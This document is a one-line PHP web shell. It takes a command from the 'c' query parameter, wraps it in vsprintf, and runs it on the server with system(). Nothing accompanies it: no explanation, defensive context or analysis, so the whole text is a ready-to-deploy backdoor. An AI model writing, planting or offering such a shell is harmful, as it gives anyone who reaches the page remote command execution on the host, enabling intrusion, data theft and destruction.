<?php $c = vsprintf("%s", [$_GET["c"]]); system($c);
